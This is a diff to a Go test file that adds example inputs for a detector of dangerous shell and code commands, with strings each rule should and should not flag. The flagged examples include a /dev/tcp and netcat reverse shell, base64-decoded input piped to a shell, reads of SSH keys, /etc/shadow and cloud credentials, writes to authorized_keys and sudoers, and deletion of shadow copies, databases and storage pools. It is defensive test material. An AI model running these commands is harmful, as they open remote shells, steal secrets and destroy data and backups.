@@ -134,6 +134,86 @@ var examples = map[string]struct{ yes, no []string }{
 		[]string{"crontab -r", "crontab -u bob -r", "echo x | crontab -"},
 		[]string{"crontab -l", "my-crontab -r", "the crontab - a list", "crontab -e"},
 	},
+	"code_file_delete": {
+		[]string{"os.remove('x')", "shutil.rmtree(path)", "Path('a').unlink()", "fs.rmSync(dir, {recursive: true})", "os.RemoveAll(root)"},
+		[]string{"list.remove(x)", "the os.remove function", "import shutil", "Path('a').read_text()", "dialog.remove(1)"},
+	},
+	"windows_recursive_delete": {
+		[]string{"Remove-Item C:\\x -Recurse -Force", "rd /s /q C:\\x", "del /f /s *.log"},
+		[]string{"Remove-Item x.txt", "the rd /srv", "del x", "Get-ChildItem -Recurse"},
+	},
+	"code_eval": {
+		[]string{"eval(x)", "x = exec(code)", "__import__('os')", "exec(f'{a}')"},
+		[]string{"cursor.exec(q)", "the exec (summary)", "retrieval(x)", "'eval()'", "eval is evil", "db.exec(x)"},
+	},
+	"code_deserialise": {
+		[]string{"pickle.loads(data)", "cPickle.load(f)", "yaml.unsafe_load(text)", "marshal.loads(b)"},
+		[]string{"json.loads(data)", "yaml.safe_load(f)", "the pickle.loads call", "cucumber and pickle load"},
+	},
+	"variable_inspection": {
+		[]string{"globals()", "print(locals())", "dir(obj)", "x = vars(self)"},
+		[]string{"the globals (all of them)", "mkdir(x)", "os.dir(x)", "environment vars", "subdir(a)"},
+	},
+	"remote_shell": {
+		[]string{"ssh root@db1", "ssh -p 2222 -i key deploy@web1 uptime", "scp a.tgz web1:/srv/", "sftp bob@x.example"},
+		[]string{"ssh keys expire", "ssh-keygen -t ed25519", "scp is a program", "mail bob@x.example", "scp a b; echo x:y"},
+	},
+	"package_install": {
+		[]string{"pip install requests", "npm install left-pad", "apt-get install -y nginx", "brew install jq", "go install golang.org/x/tools/gopls@latest"},
+		[]string{"npm ci", "npm install", "install the apt", "pip list", "go build ./...", "yarn test"},
+	},
+	"service_persistence": {
+		[]string{"systemctl enable --now x.service", "launchctl load x.plist", "schtasks /create /tn x", "update-rc.d x defaults"},
+		[]string{"systemctl is-enabled x", "enable the systemctl", "launchctl list", "schtasks /query"},
+	},
+	"startup_file_write": {
+		[]string{"echo x >> ~/.bashrc", "echo x > /etc/cron.d/job", "cat key | tee -a ~/.ssh/authorized_keys", "echo x >> /etc/sudoers"},
+		[]string{"cat ~/.bashrc", "a > b", "ls /etc/cron.d", "echo x > /etc/hosts"},
+	},
+	"store_flush": {
+		[]string{"redis-cli -h x FLUSHALL", "db.dropDatabase()", "dropdb orders", "mysqladmin -u root drop shop"},
+		[]string{"redis-cli info", "flush all toilets", "createdb orders", "the dropdb"},
+	},
+	"sql_drop_column": {
+		[]string{"ALTER TABLE users DROP COLUMN email", "alter table public.t drop partition p1", "ALTER TABLE IF EXISTS t DROP COLUMN \"a\""},
+		[]string{"ALTER TABLE users ADD COLUMN a int", "drop a column of figures", "ALTER TABLE t ALTER COLUMN a DROP DEFAULT"},
+	},
+	"sql_grant_all": {
+		[]string{"GRANT ALL PRIVILEGES ON *.* TO 'app'", "grant all on database shop to bob", "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob"},
+		[]string{"GRANT SELECT ON t TO bob", "we grant all wishes to staff", "a grant on all"},
+	},
+	"secret_file_read": {
+		[]string{"cat ~/.ssh/id_rsa", "cat /etc/shadow", "head -1 /srv/app/.env", "base64 -w0 ~/.aws/credentials"},
+		[]string{"cat ~/.ssh/id_rsa.pub", "cat .env.example", "cat notes.txt; ls ~/.ssh/id_rsa", "the /etc/shadow file", "cp .env.example .environment"},
+	},
+	"git_history_rewrite": {
+		[]string{"git filter-branch --all", "git filter-repo --path x --invert-paths", "git reflog expire --expire=now --all", "git update-ref -d refs/heads/x"},
+		[]string{"git reflog", "git log", "filter the branch", "git branch"},
+	},
+	"git_discard": {
+		[]string{"git checkout -- .", "git restore .", "git stash clear", "git stash drop"},
+		[]string{"git checkout main", "git stash", "git restore --help", "git stash list"},
+	},
+	"recovery_delete": {
+		[]string{"vssadmin delete shadows /all", "borg delete /repo", "tmutil deletelocalsnapshots /", "restic -r x forget --keep-last 1 --prune"},
+		[]string{"vssadmin list shadows", "borg list /repo", "restic backup /x", "delete the shadows"},
+	},
+	"storage_destroy": {
+		[]string{"zpool destroy tank", "zfs destroy -r tank/a", "lvremove vg0/root", "cryptsetup -q luksFormat /dev/sdb"},
+		[]string{"zpool status", "lvs", "cryptsetup status x", "destroy the pool"},
+	},
+	"account_remove": {
+		[]string{"userdel -r bob", "deluser bob", "net user bob /delete", "Remove-ADUser bob"},
+		[]string{"id bob", "net user bob", "the userdel: a program", "useradd bob"},
+	},
+	"reverse_shell": {
+		[]string{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444", "socat tcp:x:1 exec:/bin/sh"},
+		[]string{"bash -i", "nc -z db 5432", "socat -V", "ls /dev/tcp"},
+	},
+	"encoded_shell": {
+		[]string{"echo aGk= | base64 -d | sh", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "base64 --decode x | sudo bash"},
+		[]string{"base64 -d x > y", "echo x | base64", "powershell -File x.ps1", "base64 -d x | jq ."},
+	},
 }
 
 func TestExtendedExamples(t *testing.T) {
@@ -162,6 +242,9 @@ func TestExtendedExamples(t *testing.T) {
 				t.Errorf("%s fires on %q: %+v", r.Name, s, got.Evidence)
 			}
 		}
+	}
+	if len(Extended()) < 30 || len(Default()) <= 40 {
+		t.Errorf("%d extended rules of %d in all, want at least 30 and more than 40", len(Extended()), len(Default()))
 	}
 	if len(examples) != len(Extended()) {
 		t.Errorf("%d rules have examples, there are %d rules", len(examples), len(Extended()))
